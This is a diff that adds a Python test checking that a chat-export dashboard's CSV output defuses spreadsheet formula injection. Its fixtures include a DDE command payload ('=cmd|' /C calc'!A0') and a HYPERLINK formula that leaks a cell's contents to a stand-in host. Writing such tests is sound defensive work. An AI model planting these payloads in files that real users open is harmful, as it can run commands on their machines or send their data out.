@@ -107,6 +107,27 @@ def test_downloads():
     assert any("summarized" in line for line in dashboard.dropped_lines(plan))
 
 
+def test_the_blocks_csv_never_hands_a_spreadsheet_a_formula():
+    # Pasted text is the user's, or a chat export's: a message that starts with "=" opened in a
+    # spreadsheet used to run as a formula (CSV injection). Text cells get a leading apostrophe.
+    messages = [
+        {"role": "system", "content": "@SUM(A1:A9)", "meta": {"id": "=cmd|' /C calc'!A0"}},
+        {"role": "user", "content": '=HYPERLINK("http://example.invalid/?leak="&A1, "open")'},
+        {"role": "assistant", "content": "- first item\n- second"},
+        {"role": "user", "content": "+1 555 0100 is my number; ORD-7731 is the order."},
+    ]
+    plan = contextfit.plan_prompt(messages, model="gpt-4o")
+    table = list(csv.DictReader(io.StringIO(dashboard.blocks_csv(plan))))
+    assert [row["text"] for row in table] == [
+        "'@SUM(A1:A9)", '\'=HYPERLINK("http://example.invalid/?leak="&A1, "open")', "'- first item\n- second",
+        "'+1 555 0100 is my number; ORD-7731 is the order."]
+    assert table[0]["id"] == "'=cmd|' /C calc'!A0"
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in table for value in row.values())
+    # Numbers stay numbers, and text that does not start like a formula is left as it is.
+    assert [row["tokens"] for row in table] == [str(block.tokens) for block in plan.blocks]
+    assert [row["fate"] for row in table] == [block.fate for block in plan.blocks]
+
+
 def test_plans_come_one_strategy_at_a_time_and_match_plan_one():
     conversation = load_sample("roleplay")
     setup = dashboard.suggested_setup(conversation)
